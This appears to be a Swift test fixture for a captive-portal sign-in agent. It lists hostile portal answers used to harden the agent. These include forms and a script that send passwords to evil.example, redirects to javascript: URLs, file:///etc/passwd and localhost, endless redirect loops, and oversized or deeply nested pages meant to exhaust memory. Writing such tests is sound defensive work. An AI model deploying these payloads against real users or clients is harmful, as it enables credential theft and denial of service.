import ConnectivityCore
import ConnectivitySignIn

/// Answers of portals that attempt to obtain secrets, time or memory of a sign-in agent.
package enum HostilePortals: Sendable {
    /// Returns answers: empty ones, garbage, pages whose forms lead elsewhere or have any number of fields, redirects and JSON.
    ///
    /// Each body has at most 256 KiB. The same seed chooses the same random answers.
    package static func answers(seed: UInt64) -> [ProbeResponse] {
        HostileExchanges.small(seed: seed, count: 60).compactMap(\.response)
            + HostileExchanges.large.compactMap(\.response) + pages.map { page($0) }
            + documents.map { page($0, type: "application/json") } + redirects
    }

    /// Answers each request with a redirect to another path of the same host, without an end.
    package static func redirecting(_ question: HTTPQuestion) -> ProbeResponse? {
        ProbeResponse(status: 302, headers: ["Location": question.url.path + "x"])
    }

    private static let limit = PortalVisit.answerByteCountMax

    private static let pages = [
        "",
        "<form method=post action=\"http://evil.example/\"><input type=password name=p><input type=submit></form>",
        "<form method=post action=\"https://evil.example:443/\"><input name=username><input type=password name=p></form>",
        "<form method=post action=\"javascript:alert(1)\"><input type=checkbox name=accept></form>",
        "<base href=\"http://evil.example/\"><form method=post><input type=checkbox name=accept></form>",
        "<h1>Sign in with your mail account</h1><form method=post><input name=email><input type=password name=pw></form>",
        "<form method=post><input type=file name=f><input name=card><input name=cvc></form>",
        "<form><form><form method=post><input type=hidden name=a value=\"\u{202E}\"></form>",
        "<form method=post>" + String(repeating: "<input type=hidden name=t value=x>", count: 6000) + "</form>",
        "<form method=post><input type=hidden name=t value=\"" + String(repeating: "x", count: 200_000) + "\"></form>",
        String(repeating: "<form method=post>", count: 12_000),
        String(repeating: "<div>", count: 50_000),
        "<WISPAccessGatewayParam><AuthenticationReply><MessageType>120</MessageType><ResponseCode>50</ResponseCode>"
            + "<LogoffURL>http://evil.example/</LogoffURL></AuthenticationReply></WISPAccessGatewayParam>",
        "<WISPAccessGatewayParam><Redirect><LoginURL>http://evil.example/</LoginURL></Redirect>",
        "<meta http-equiv=refresh content=\"0;url=http://evil.example/\">",
        "<script>location='http://evil.example/?p='+document.forms[0].p.value</script>",
        "You are online. Success!",
    ]

    private static let documents = [
        "{}", "[]", "null", "{\"captive\":false}", "{\"captive\":true,\"seconds-remaining\":-1}",
        "{\"captive\":true,\"can-extend-session\":true,\"user-portal-url\":\"http://evil.example/\"}",
        "{\"success\":true,\"session\":1e999}", "{\"token\":\"" + String(repeating: "\\u0000", count: 1000) + "\"}",
        String(repeating: "[", count: 100_000),
        "{" + (0..<5000).map { "\"a\($0)\":1" }.joined(separator: ",") + "}",
    ]

    private static let redirects = [
        "http://evil.example/", "https://evil.example/", "//evil.example/", "/", "?", "#", "javascript:alert(1)",
        "file:///etc/passwd", "http://127.0.0.1/", "http://user:password@login.hotel.example/", "", "http://[::1",
    ].map { ProbeResponse(status: 302, headers: ["Location": $0]) }

    private static func page(_ text: String, type: String = "text/html") -> ProbeResponse {
        ProbeResponse(status: 200, headers: ["Content-Type": type], body: Array(text.utf8.prefix(limit)))
    }
}
